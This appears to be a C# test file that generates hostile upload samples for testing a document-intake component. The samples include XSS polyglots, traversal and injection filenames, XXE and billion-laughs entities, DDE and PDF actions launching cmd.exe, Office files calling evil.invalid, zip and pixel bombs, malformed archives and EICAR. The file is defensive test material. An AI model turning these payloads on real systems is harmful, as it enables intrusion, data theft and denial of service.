using System.Buffers.Binary;
using System.IO.Compression;
using System.IO.Hashing;
using System.Text;
using PartyDiscipline.Responsibilities.Organisation;

namespace PartyDiscipline.Tests.Assurance;

/// <summary>A file that means no good, or is none. Without content it is about its name alone: a sound file of the door is sent under it, <c>*</c> standing for its extension.</summary>
sealed record HostileFile(string Class, string What, string Name, byte[]? Content)
{
    public override string ToString() => $"{Class}: {What}";
}

/// <summary>Hostile files of every class that we know, made by code, so that none of them lies in the repository.</summary>
static class HostileFiles
{
    const string Eicar = @"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    const string Main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    const string Relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    const string WordMain = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    const int Kibi = 1024, Mebi = 1024 * 1024;

    public static byte[] Pdf { get; } = Ascii("%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");
    public static byte[] Png { get; } = PngOf(1, 1, [0x78, 0x9C, 0x63, 0x60, 0x60, 0x60, 0, 0, 0, 4, 0, 1]);
    public static byte[] Jpeg { get; } = JpegOf(1, 1, []);
    public static byte[] Docx { get; } = DocxOf(Paragraph("会议纪要"));
    public static byte[] Xlsx { get; } = OrganisationWorkbook.Template();
    public static byte[] Ofd { get; } = Zip(("OFD.xml", Utf8("<ofd/>")));
    public static byte[] Json { get; } = Utf8("""{"people":[{"number":"1","name":"某某"}],"parties":[]}""");

    /// <summary>Small sound files by their extension: what a door takes, and what is cut, patched and renamed here.</summary>
    public static IReadOnlyDictionary<string, byte[]> Sound { get; } = new Dictionary<string, byte[]>
    {
        [".pdf"] = Pdf,
        [".png"] = Png,
        [".jpg"] = Jpeg,
        [".docx"] = Docx,
        [".xlsx"] = Xlsx,
        [".ofd"] = Ofd,
        [".json"] = Json,
    };

    public static IReadOnlyList<HostileFile> All { get; } =
    [
        .. WrongMagic(), .. Scripts(), .. Polyglots(), .. DoubleExtensions(), .. Names(), .. Active(), .. External(), .. Entities(), .. Bombs(), .. Liars(), .. Archives(),
        .. Pixels(), .. Encrypted(), .. Truncated(), .. Viruses(), .. PdfActions(), .. Texts(), .. Sheets(), .. Sizes(), .. Leavings(), .. Tangles(),
    ];

    static IEnumerable<HostileFile> WrongMagic()
    {
        foreach (var extension in Sound.Keys)
        {
            yield return new("wrong magic", $"a program called {extension}", $"a{extension}", [0x4D, 0x5A, 0x90, 0, .. new byte[200]]);
            yield return new("wrong magic", $"a text called {extension}", $"a{extension}", Utf8("这是一份纯文本。"));
            var other = extension == ".pdf" ? ".png" : ".pdf";
            yield return new("wrong magic", $"a {other} called {extension}", $"a{extension}", Sound[other]);
        }
    }

    static IEnumerable<HostileFile> Scripts()
    {
        var (html, svg) = (Utf8("<!doctype html><script>alert(document.cookie)</script>"), Utf8("""<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>"""));
        foreach (var extension in Sound.Keys.Append(".html").Append(".xhtml").Append(".htm")) yield return new("a page in disguise", $"HTML called {extension}", $"a{extension}", html);
        foreach (var extension in (string[])[".svg", ".png", ".jpg", ".svgz", ".xml"]) yield return new("SVG", $"a script in a picture called {extension}", $"a{extension}", svg);
    }

    static IEnumerable<HostileFile> Polyglots()
    {
        yield return new("polyglot", "a PDF that is an archive", "a.pdf", [.. Pdf, .. Docx]);
        yield return new("polyglot", "a PDF that is a page", "a.pdf", Ascii("%PDF-1.7\n<html><script>alert(1)</script></html>"));
        yield return new("polyglot", "an archive behind a page", "a.docx", [.. Utf8("<script>alert(1)</script>"), .. Docx]);
        yield return new("polyglot", "an archive behind a PDF's mark, as a workbook", "a.xlsx", [.. Ascii("%PDF-1.7\n"), .. Xlsx]);
        yield return new("polyglot", "a picture with a page in its comment", "a.jpg", JpegOf(1, 1, Ascii("<script>alert(1)</script>")));
        yield return new("polyglot", "a picture with a page behind it", "a.png", [.. Png, .. Utf8("<script>alert(1)</script>")]);
        yield return new("polyglot", "a picture that is an archive", "a.jpg", [.. Jpeg, .. Docx]);
        yield return new("polyglot", "GIF and script", "a.jpg", Ascii("GIF89a/*" + new string('x', 50) + "*/=1;alert(1)//"));
        yield return new("polyglot", "JSON and page", "a.json", Utf8("""{"people":[{"number":"<script>alert(1)</script>","name":"<img src=x onerror=alert(1)>"}],"parties":[]}"""));
    }

    static IEnumerable<HostileFile> DoubleExtensions() =>
        ((string[])["a*.exe", "a.exe*", "a.php*", "a*.js", "a*.html", "a*.bat", "a* ", "a*.", "a*::$DATA", "a.html;*", "a*%00.html", "a*.lnk", ".htaccess*", "web.config*"]).Select(n => new HostileFile("double extension", n, n, null));

    static IEnumerable<HostileFile> Names()
    {
        HostileFile Named(string kind, string name) => new(kind, name.Length > 60 ? $"{name[..20]}… ({name.Length})" : Escaped(name), name, null);
        foreach (var name in (string[])["纪要\u202Efdp*", "纪要\u202Exslx.exe\u202C*", "\u2066a\u2069*", "a\u200B\u200D*", "\uFEFFa*", "a\u00AD*", "\u200F\u200E*"]) yield return Named("a name that reads backwards", name);
        foreach (var name in (string[])["../../../../etc/cron.d/a*", "..\\..\\windows\\a*", "/etc/passwd*", "C:\\windows\\a*", "\\\\server\\share\\a*", "%2e%2e%2fa*", "....//a*", "./*", "..*", "file:///etc/a*", "~/.ssh/a*"]) yield return Named("a name that climbs", name);
        foreach (var name in (string[])["a\0*", "a.exe\0*", "a\u0001\u001F\u007F*", "a\u0085\u2028\u2029*", "a\tb*", "a';drop table x;--*", "<fz\"'>*", "a;filename=b.exe*", "$(id)`id`*", "{0}{{7*7}}%s%n*", "\uFFFD\uFFFF*", "e\u0301\u0301\u0301\u0301*"]) yield return Named("a name with what no name has", name);
        foreach (var name in (string[])[new string('n', 300) + "*", new string('名', 300) + "*", "x" + string.Concat(Enumerable.Repeat("😀", 120)) + "*", string.Concat(Enumerable.Repeat("😀", 120)) + "*", new string('n', 5000) + "*", "*", ".", "..", " *", "CON*", "NUL*", "LPT1*", "a", ""]) yield return Named("a name too long, too short or taken", name);
    }

    /// <summary>Macros and embedded objects: taken as they are in evidence, never in what is cleaned.</summary>
    static IEnumerable<HostileFile> Active()
    {
        byte[] ole = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[1000]];
        var macro = Zip([.. Parts(Docx), ("word/vbaProject.bin", ole)]);
        var workbook = Zip([.. Parts(Xlsx), ("xl/vbaProject.bin", ole)]);
        foreach (var name in (string[])["a.docm", "a.docx", "a.dotm", "a.doc"]) yield return new("macros", $"a document with macros called {name}", name, macro);
        foreach (var name in (string[])["a.xlsm", "a.xlsx", "a.xlam", "a.xlsb"]) yield return new("macros", $"a workbook with macros called {name}", name, workbook);
        foreach (var name in (string[])["a.doc", "a.xls", "a.docx", "a.xlsx", "a.pdf", "a.msi"]) yield return new("OLE", $"a compound file called {name}", name, ole);
        yield return new("OLE", "an object in a document", "a.docx", Zip([.. Parts(Docx), ("word/embeddings/oleObject1.bin", ole)]));
        yield return new("OLE", "an object in a workbook", "a.xlsx", Zip([.. Parts(Xlsx), ("xl/embeddings/oleObject1.bin", ole)]));
        yield return new("OLE", "a control in a document", "a.docx", Zip([.. Parts(Docx), ("word/activeX/activeX1.bin", ole), ("word/activeX/activeX1.xml", Utf8("<ax/>"))]));
    }

    /// <summary>What calls home when it is opened.</summary>
    static IEnumerable<HostileFile> External()
    {
        byte[] Word(string type, string target, string body = "") => Zip(
        [
            .. Parts(DocxOf(Paragraph("甲") + body)), ("word/_rels/document.xml.rels", Utf8($"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdX" Type="{Relations}/{type}" Target="{target}" TargetMode="External"/></Relationships>""")),
        ]);
        yield return new("calls home", "a template of another's", "a.docx", Word("attachedTemplate", "http://evil.invalid/a.dotm"));
        yield return new("calls home", "a template on a share", "a.docx", Word("attachedTemplate", "\\\\evil.invalid\\share\\a.dotm"));
        yield return new("calls home", "a picture of another's", "a.docx", Word("image", "http://evil.invalid/seen.png"));
        yield return new("calls home", "a frame", "a.docx", Word("frame", "http://evil.invalid/frame.htm"));
        yield return new("calls home", "a sub-document", "a.docx", Word("subDocument", "file:///etc/passwd"));
        yield return new("calls home", "an object by its address", "a.docx", Word("oleObject", "mhtml:http://evil.invalid/x!http://evil.invalid/x"));
        yield return new("calls home", "a field that runs", "a.docx", DocxOf("""<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"""));
        yield return new("calls home", "a workbook's link", "a.xlsx", Zip([.. Parts(Xlsx), ("xl/externalLinks/externalLink1.xml", Utf8($"""<externalLink xmlns="{Main}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>"""))]));
        yield return new("calls home", "a workbook's connection", "a.xlsx", Zip([.. Parts(Xlsx), ("xl/connections.xml", Utf8($"""<connections xmlns="{Main}"><connection id="1" type="4"><webPr url="http://evil.invalid/"/></connection></connections>"""))]));
        yield return new("calls home", "a PDF's form", "a.pdf", PdfWith("/OpenAction<</S/SubmitForm/F(http://evil.invalid/)>>"));
    }

    static IEnumerable<HostileFile> Entities()
    {
        const string file = """<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>""";
        const string net = """<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.invalid/e.dtd"> %e;]>""";
        var laughs = "<!DOCTYPE x [<!ENTITY a0 \"哈哈哈哈哈哈哈哈哈哈\">" + string.Concat(Enumerable.Range(1, 12).Select(i => $"<!ENTITY a{i} \"{string.Concat(Enumerable.Repeat($"&a{i - 1};", 10))}\">")) + "]>";
        var quadratic = $"<!DOCTYPE x [<!ENTITY q \"{new string('q', 100_000)}\">]>";
        foreach (var (what, type, use) in ((string, string, string)[])[("a file", file, "&e;"), ("the net", net, ""), ("a laugh", laughs, "&a12;"), ("a square", quadratic, string.Concat(Enumerable.Repeat("&q;", 10_000)))])
        {
            yield return new("entities", $"{what} in a document", "a.docx", Zip([.. Parts(Docx).Where(p => p.Name != "word/document.xml"), ("word/document.xml", Utf8($"{type}<w:document xmlns:w=\"{WordMain}\"><w:body><w:p><w:r><w:t>{use}</w:t></w:r></w:p></w:body></w:document>"))]));
            foreach (var part in (string[])["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels"])
                yield return new("entities", $"{what} in {part}", "a.xlsx", Zip([.. Parts(Xlsx).Where(p => p.Name != part), (part, Utf8($"{type}<x xmlns=\"{Main}\">{use}</x>"))]));
        }
    }

    static IEnumerable<HostileFile> Bombs()
    {
        yield return new("bomb", "200 MB of nothing as a document", "a.docx", BombOf("word/document.xml", 200));
        yield return new("bomb", "400 MB of nothing as a sheet", "a.xlsx", BombOf("xl/worksheets/sheet1.xml", 400, [.. Parts(Xlsx).Where(p => p.Name != "xl/worksheets/sheet1.xml")]));
        yield return new("bomb", "400 MB of nothing as a signed document", "a.ofd", BombOf("OFD.xml", 400));
        yield return new("bomb", "sixty parts of 5 MB", "a.docx", BombOf("word/document.xml", 5, [.. Enumerable.Range(0, 60).Select(i => ($"word/p{i}.xml", new byte[5 * Mebi]))]));
        yield return new("bomb", "30 MB of rows", "a.xlsx", WorkbookOf($"<sheetData>{string.Concat(Enumerable.Repeat("<row><c t=\"inlineStr\"><is><t>x</t></is></c></row>", 600_000))}</sheetData>"));
        yield return new("bomb", "one cell of 30 MB", "a.xlsx", WorkbookOf($"<sheetData><row><c t=\"inlineStr\"><is><t>{new string('x', 30 * Mebi)}</t></is></c></row></sheetData>"));
        yield return new("bomb", "30 MB of shared strings", "a.xlsx", Zip([.. Parts(Xlsx).Where(p => p.Name != "xl/sharedStrings.xml"), ("xl/sharedStrings.xml", Utf8($"<sst xmlns=\"{Main}\">{string.Concat(Enumerable.Repeat("<si><t>x</t></si>", 1_700_000))}</sst>"))]));
        var nested = Zip(("a.xml", new byte[Mebi]));
        for (var i = 0; i < 8; i++) nested = Zip([.. Enumerable.Range(0, 8).Select(n => ($"{n}.zip", nested))]);
        yield return new("nested bomb", "archives in archives as a document", "a.docx", Zip([.. Parts(Docx), ("word/embeddings/a.zip", nested)]));
        yield return new("nested bomb", "archives in archives as a workbook", "a.xlsx", Zip([.. Parts(Xlsx), ("xl/media/a.zip", nested)]));
        yield return new("nested bomb", "archives in archives", "a.xlsx", nested);
    }

    /// <summary>Archives whose head says other than their body.</summary>
    static IEnumerable<HostileFile> Liars()
    {
        var big = Deflated(new byte[20 * Mebi]);
        foreach (var (name, part, rest) in ((string, string, (string, byte[])[])[])[("a.docx", "word/document.xml", []), ("a.xlsx", "xl/worksheets/sheet1.xml", [.. Parts(Xlsx).Where(p => p.Name != "xl/worksheets/sheet1.xml")])])
        {
            RawEntry[] honest = [.. rest.Select(r => new RawEntry(r.Item1, Deflated(r.Item2), r.Item2.Length))];
            yield return new("overlapping bomb", $"hundreds of entries over one body as {name}", name, RawZip([.. honest, .. Enumerable.Range(0, 180).Select(i => new RawEntry(i == 0 ? part : $"p{i}.xml", big, 20 * Mebi) { Over = honest.Length })]));
            yield return new("lying size", $"says ten bytes as {name}", name, RawZip([.. honest, new(part, big, 10)]));
            yield return new("lying size", $"says nothing as {name}", name, RawZip([.. honest, new(part, big, 0)]));
            yield return new("lying size", $"says 4 GB as {name}", name, RawZip([.. honest, new(part, big, 0xFFFF_FFFE)]));
            yield return new("lying size", $"says more than there are numbers as {name}", name, RawZip([.. honest, new(part, big, long.MaxValue), new("b.xml", big, long.MaxValue)]));
            yield return new("lying size", $"says less than nothing as {name}", name, RawZip([.. honest, new(part, big, -1)]));
            yield return new("lying size", $"packed in more bytes than there are as {name}", name, RawZip([.. honest, new(part, big, 20 * Mebi) { Packed = 0x7FFF_FFFF }]));
            yield return new("lying size", $"a body that is elsewhere as {name}", name, RawZip([.. honest, new(part, big, 20 * Mebi) { At = 0x7FFF_0000 }]));
            yield return new("lying size", $"a way of packing nobody knows as {name}", name, RawZip([.. honest, new(part, big, 20 * Mebi) { Method = 99 }]));
            yield return new("lying size", $"a sum that does not fit as {name}", name, RawZip([.. honest, new(part, Deflated(Utf8("<x/>")), 4) { Crc = 0xDEADBEEF }]));
        }
    }

    static IEnumerable<HostileFile> Archives()
    {
        foreach (var (name, sound, part) in ((string, byte[], string)[])[("a.docx", Docx, "word/link.xml"), ("a.xlsx", Xlsx, "xl/link.xml")])
        {
            RawEntry[] parts = [.. Parts(sound).Select(p => new RawEntry(p.Name, Deflated(p.Content), p.Content.Length))];
            yield return new("link entry", $"to the passwords in {name}", name, RawZip([.. parts, new(part, Deflated(Ascii("/etc/passwd")), 11) { Attributes = 0xA1FF_0000 }]));
            foreach (var climbing in (string[])["../../../../tmp/evil.xml", "/tmp/evil.xml", "..\\..\\evil.xml", "C:\\evil.xml", "word/..\0.xml"])
                yield return new("climbing entry", $"{Escaped(climbing)} in {name}", name, RawZip([.. parts, new(climbing, Deflated(Utf8("<x/>")), 4)]));
            yield return new("many entries", $"a hundred thousand in {name}", name, RawZip([.. parts, .. Enumerable.Range(0, 100_000).Select(i => new RawEntry($"{i}", [3, 0], 0) { Over = parts.Length })]));
            yield return new("doubled entry", $"two of one name in {name}", name, RawZip([.. parts, .. parts]));
            yield return new("doubled entry", $"one name in two cases in {name}", name, RawZip([.. parts, .. parts.Select(p => p with { Name = p.Name.ToUpperInvariant() })]));
            yield return new("doubled entry", $"with backslashes in {name}", name, RawZip([.. parts.Select(p => p with { Name = p.Name.Replace('/', '\\') })]));
            yield return new("doubled entry", $"nameless in {name}", name, RawZip([.. parts, new("", [3, 0], 0)]));
        }
        yield return new("many entries", "a hundred thousand in a.ofd", "a.ofd", RawZip([new("OFD.xml", [3, 0], 0), .. Enumerable.Range(0, 100_000).Select(i => new RawEntry($"{i}", [3, 0], 0) { Over = 0 })]));
        yield return new("many entries", "none at all", "a.xlsx", [(byte)'P', (byte)'K', 5, 6, .. new byte[18]]);
    }

    static IEnumerable<HostileFile> Pixels()
    {
        yield return new("pixel flood", "65,535 × 65,535 as PNG", "a.png", PngOf(65_535, 65_535, [0x78, 0x9C, 3, 0, 0, 0, 0, 1]));
        yield return new("pixel flood", "2³¹ × 2³¹ as PNG", "a.png", PngOf(int.MaxValue, int.MaxValue, [0x78, 0x9C, 3, 0, 0, 0, 0, 1]));
        yield return new("pixel flood", "0 × 0 as PNG", "a.png", PngOf(0, 0, []));
        yield return new("pixel flood", "65,500 × 65,500 as JPEG", "a.jpg", JpegOf(65_500, 65_500, []));
        yield return new("pixel flood", "a PNG's bomb of 200 MB", "a.png", PngOf(100_000, 100_000, [0x78, 0x9C, .. Deflated(new byte[200 * Mebi])]));
        yield return new("pixel flood", "a PNG's hidden text, packed 200 MB", "a.png", [.. Png[..33], .. Chunk("zTXt", [.. Ascii("a\0\0"), 0x78, 0x9C, .. Deflated(new byte[200 * Mebi])]), .. Png[33..]]);
        yield return new("pixel flood", "a PNG that ends in itself", "a.png", [.. Png[..33], 0x7F, 0xFF, 0xFF, 0xFF, .. Ascii("IDAT"), .. new byte[20]]);
        yield return new("pixel flood", "a JPEG of ten thousand scans", "a.jpg", [.. Jpeg[..^2], .. Enumerable.Repeat<byte[]>([0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 0x3F, 0, 0x12], 10_000).SelectMany(s => s), 0xFF, 0xD9]);
        yield return new("pixel flood", "a JPEG of four million fill bytes", "a.jpg", [.. Jpeg[..^2], .. Enumerable.Repeat((byte)0xFF, 4 * Mebi), 0xD9]);
    }

    static IEnumerable<HostileFile> Encrypted()
    {
        foreach (var (name, sound) in ((string, byte[])[])[("a.docx", Docx), ("a.xlsx", Xlsx), ("a.ofd", Ofd)])
            yield return new("encrypted", $"every entry of {name}", name, RawZip([.. Parts(sound).Select(p => new RawEntry(p.Name, [.. new byte[12], .. Deflated(p.Content)], p.Content.Length) { Flags = 1 })]));
        yield return new("encrypted", "a workbook with a password", "a.xlsx", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[500], .. Encoding.Unicode.GetBytes("EncryptedPackage")]);
        yield return new("encrypted", "a PDF with a password", "a.pdf", PdfWith("/Encrypt<</Filter/Standard/V 4/R 4/P -1>>"));
    }

    static IEnumerable<HostileFile> Truncated()
    {
        foreach (var (extension, content) in Sound)
            foreach (var (what, length) in ((string, int)[])[("at half", content.Length / 2), ("by a byte", content.Length - 1), ("after three bytes", 3)])
                yield return new("truncated", $"{extension} {what}", $"a{extension}", content[..length]);
    }

    static IEnumerable<HostileFile> Viruses()
    {
        foreach (var name in (string[])["a.com", "a.txt", "a.pdf", "a.docx"]) yield return new("EICAR", $"as {name}", name, Ascii(Eicar));
        yield return new("EICAR", "in a PDF", "a.pdf", [.. Pdf, .. Ascii(Eicar)]);
        yield return new("EICAR", "in a document", "a.docx", Zip([.. Parts(Docx), ("word/media/eicar.com", Ascii(Eicar))]));
        yield return new("EICAR", "behind a picture", "a.png", [.. Png, .. Ascii(Eicar)]);
    }

    static IEnumerable<HostileFile> PdfActions() => ((string, string)[])
    [
        ("script when opened", "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), ("a program", "/OpenAction<</S/Launch/F(cmd.exe)>>"), ("a file inside", "/Names<</EmbeddedFiles<</Names[(a.exe)<</EF<</F 9 0 R>>>>]>>>>"),
        ("an address", "/OpenAction<</S/URI/URI(javascript:alert\\(1\\))>>"), ("a remote file", "/OpenAction<</S/GoToR/F(\\\\\\\\evil.invalid\\\\a.pdf)>>"), ("a form of XML", "/AcroForm<</XFA(<xdp/>)>>"), ("rich media", "/RichMedia<</Subtype/Flash>>"),
        ("an endless loop", "/Pages 1 0 R/Parent 1 0 R"),
    ] is { } actions ? actions.Select(a => new HostileFile("PDF that acts", a.Item1, "a.pdf", PdfWith(a.Item2))) : [];

    static IEnumerable<HostileFile> Texts()
    {
        HostileFile Text(string what, byte[] content) => new("hostile JSON", what, "a.json", content);
        yield return Text("ten thousand lists in lists", Ascii(new string('[', 10_000) + new string(']', 10_000)));
        yield return Text("a hundred thousand objects in objects", Utf8(string.Concat(Enumerable.Repeat("{\"people\":", 100_000)) + "1" + new string('}', 100_000)));
        yield return Text("a member twice", Utf8("""{"people":[],"people":[{"number":"1","name":"a"}],"parties":[]}"""));
        yield return Text("numbers beyond measure", Utf8("""{"version":1e999999,"people":[],"parties":[],"obligations":[1e-400,99999999999999999999999999]}"""));
        yield return Text("no number", Utf8("""{"people":[NaN,Infinity],"parties":[]}"""));
        yield return Text("UTF-16", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("""{"people":[],"parties":[]}""")]);
        yield return Text("half a character", [.. Utf8("{\"people\":[{\"number\":\""), 0xE4, 0xB8, .. Utf8("\",\"name\":\"x\"}],\"parties\":[]}")]);
        yield return Text("half a pair", Utf8("""{"people":[{"number":"\ud800","name":"\udc00"}],"parties":[]}"""));
        yield return Text("a prototype", Utf8("""{"__proto__":{"admin":true},"constructor":{"prototype":{}},"$type":"System.IO.FileInfo","people":[],"parties":[]}"""));
        yield return Text("remarks and a comma too many", Utf8("{/*x*/\"people\":[],\"parties\":[],}"));
        yield return Text("a list of nothing", Utf8("""{"people":[null,null],"parties":[null]}"""));
        yield return Text("a text of a megabyte", Utf8($$"""{"people":[{"number":"{{new string('9', Mebi)}}","name":"x"}],"parties":[]}"""));
        yield return Text("NUL in a text", Utf8("""{"people":[{"number":"1\u0000","name":"\u0000\u0001\u202e<fz\"'>"}],"parties":[]}"""));
        yield return Text("a hundred thousand rows", Utf8($$"""{"people":[{{string.Join(',', Enumerable.Repeat("{}", 100_000))}}],"parties":[]}"""));
        yield return Text("nothing", Utf8("null"));
        yield return Text("a list", Utf8("[1,2,3]"));
        yield return Text("a text", Utf8("\"people\""));
    }

    /// <summary>Workbooks that are none: rows and columns where no sheet has any, cells that point nowhere.</summary>
    static IEnumerable<HostileFile> Sheets()
    {
        HostileFile Sheet(string what, string inner) => new("absurd sheet", what, "a.xlsx", WorkbookOf(inner));
        const string head = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>number</t></is></c><c r=\"B1\" t=\"inlineStr\"><is><t>name</t></is></c></row>";
        string Row(string cell) => $"<sheetData>{head}<row r=\"2\">{cell}</row></sheetData>";
        yield return Sheet("the widest and longest", $"<dimension ref=\"A1:XFD1048576\"/><sheetData>{head}<row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c></row></sheetData>");
        yield return Sheet("a column beyond the alphabet", Row("<c r=\"ZZZZZZZZ2\"><v>1</v></c>"));
        yield return Sheet("a row beyond all numbers", $"<sheetData>{head}<row r=\"2147483647\"><c r=\"A2147483647\"><v>1</v></c></row></sheetData>");
        yield return Sheet("a row before the first", $"<sheetData>{head}<row r=\"-1\"><c r=\"A-1\"><v>1</v></c></row></sheetData>");
        yield return Sheet("a number beyond all numbers", Row("<c r=\"A2\"><v>1e308</v></c><c r=\"B2\"><v>-1e308</v></c>"));
        yield return Sheet("no number", Row("<c r=\"A2\"><v>NaN</v></c><c r=\"B2\"><v>x</v></c>"));
        yield return Sheet("a shared text that is not there", Row("<c r=\"A2\" t=\"s\"><v>99999</v></c><c r=\"B2\" t=\"s\"><v>-1</v></c>"));
        yield return Sheet("a style that is not there", Row("<c r=\"A2\" s=\"99999\"><v>1</v></c><c r=\"B2\" s=\"-1\"><v>1</v></c>"));
        yield return Sheet("a day after the last", Row("<c r=\"A2\" t=\"d\"><v>99999-99-99</v></c><c r=\"B2\"><v>99999999</v></c>"));
        yield return Sheet("a truth that is none", Row("<c r=\"A2\" t=\"b\"><v>7</v></c><c r=\"B2\" t=\"zz\"><v>1</v></c>"));
        yield return Sheet("the same head twice", $"<sheetData><row r=\"1\">{string.Concat(((string[])["A", "B", "C"]).Select(c => $"<c r=\"{c}1\" t=\"inlineStr\"><is><t>number</t></is></c>"))}</row><row r=\"2\"><c r=\"A2\"><v>1</v></c></row></sheetData>");
        yield return Sheet("twenty thousand columns", $"<sheetData><row>{string.Concat(Enumerable.Repeat("<c><v>1</v></c>", 20_000))}</row><row><c><v>1</v></c></row></sheetData>");
        yield return Sheet("a dimension that is none", "<dimension ref=\"ZZZZZ:1:A\"/><sheetData/>");
        yield return Sheet("no rows", "");
        yield return Sheet("formulas", Row("<c r=\"A2\"><f>WEBSERVICE(\"http://evil.invalid/\")</f><v>1</v></c>"));
        yield return Sheet("merged to the end", $"<sheetData>{head}</sheetData><mergeCells><mergeCell ref=\"A1:XFD1048576\"/></mergeCells>");
        yield return new("absurd sheet", "a sheet that is not there", "a.xlsx", Zip([.. Parts(Xlsx).Where(p => !p.Name.StartsWith("xl/worksheets", StringComparison.Ordinal))]));
        yield return new("absurd sheet", "a thousand sheets", "a.xlsx", Zip([.. Parts(Xlsx).Where(p => p.Name != "xl/workbook.xml"), ("xl/workbook.xml", Utf8($"<workbook xmlns=\"{Main}\" xmlns:r=\"{Relations}\"><sheets>{string.Concat(Enumerable.Range(1, 1000).Select(i => $"<sheet name=\"R{i:00}\" sheetId=\"{i}\" r:id=\"rId{i}\"/>"))}</sheets></workbook>"))]));
        yield return new("absurd sheet", "a table of HTML", "a.xlsx", Utf8("<html><table><tr><td>=1+1</td></tr></table></html>"));
        yield return new("absurd sheet", "lines with commas", "a.xlsx", Utf8("number,name\n=1+1,@x"));
    }

    static IEnumerable<HostileFile> Sizes()
    {
        foreach (var extension in Sound.Keys) yield return new("size", $"empty {extension}", $"a{extension}", []);
        yield return new("size", "one byte", "a.pdf", [0x25]);
        yield return new("size", "an archive's first two letters", "a.xlsx", Ascii("PK"));
        yield return new("size", "5 MB of zeros", "a.xlsx", new byte[5 * Mebi]);
        yield return new("size", "a PDF of 12 MB", "a.pdf", [.. Pdf, .. new byte[12 * Mebi]]);
        yield return new("size", "a workbook of 12 MB", "a.xlsx", [.. Xlsx, .. new byte[12 * Mebi]]);
    }

    /// <summary>What tells of a reporter, written as no tool writes it.</summary>
    static IEnumerable<HostileFile> Leavings()
    {
        yield return new("leavings", "an author between other quotes", "a.docx", DocxOf("<w:p><w:ins w:id='1' w:author='SecretAuthor' w:date='2026-01-01T00:00:00Z'><w:r><w:t>x</w:t></w:r></w:ins></w:p>"));
        yield return new("leavings", "a document in UTF-16", "a.docx", Zip([.. Parts(Docx).Where(p => p.Name != "word/document.xml"), ("word/document.xml", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes($"<w:document xmlns:w=\"{WordMain}\"><w:body><w:p><w:ins w:id=\"1\" w:author=\"SecretAuthor\"/></w:p></w:body></w:document>")])]));
        yield return new("leavings", "an author under another prefix", "a.docx", Zip([.. Parts(Docx).Where(p => p.Name != "word/document.xml"), ("word/document.xml", Utf8($"<q:document xmlns:q=\"{WordMain}\"><q:body><q:p><q:ins q:id=\"1\" q:author=\"SecretAuthor\"/></q:p></q:body></q:document>"))]));
        yield return new("leavings", "properties in capitals", "a.docx", Zip([.. Parts(Docx), ("DOCPROPS/core.xml", Utf8("<x>SecretAuthor</x>"))]));
        yield return new("leavings", "a picture's place behind fill bytes", "a.jpg", [0xFF, 0xD8, 0xFF, 0xFF, 0xE1, 0, 18, .. Ascii("Exif\0\0SecretAuthor"), .. Jpeg[2..]]);
        yield return new("leavings", "a picture's text chunk", "a.png", [.. Png[..33], .. Chunk("tEXt", Ascii("Author\0SecretAuthor")), .. Chunk("eXIf", Ascii("SecretAuthor")), .. Png[33..]]);
    }

    /// <summary>Texts that a careless pattern reads again and again.</summary>
    static IEnumerable<HostileFile> Tangles()
    {
        foreach (var (what, piece) in ((string, string)[])[("open tags", "<Relationship "), ("open lists of sessions", "<w:rsids>"), ("half attributes", " w:author=\""), ("targets", "<Relationship Target=\"docProps/"), ("overrides", "<Override PartName=\"/docProps/"), ("session ids", " w:rsid=\"")])
            yield return new("tangle", $"10 MB of {what}", "a.docx", Zip([.. Parts(Docx), ("word/tangle.xml", Utf8(string.Concat(Enumerable.Repeat(piece, 10 * Mebi / piece.Length))))]));
    }

    static byte[] Ascii(string text) => Encoding.Latin1.GetBytes(text);

    public static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    static string Escaped(string text) => string.Concat(text.Select(c => c is >= ' ' and < '\x7F' or >= '\u3400' and < '\uD800' ? $"{c}" : $"\\u{(int)c:X4}"));

    static byte[] PdfWith(string catalog) => Ascii($"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R{catalog}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");

    static string Paragraph(string text) => $"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>";

    static byte[] DocxOf(string body) => Zip(
        ("[Content_Types].xml", Utf8("""<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>""")),
        ("_rels/.rels", Utf8($"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{Relations}/officeDocument" Target="word/document.xml"/></Relationships>""")),
        ("word/document.xml", Utf8($"<w:document xmlns:w=\"{WordMain}\"><w:body>{body}</w:body></w:document>")));

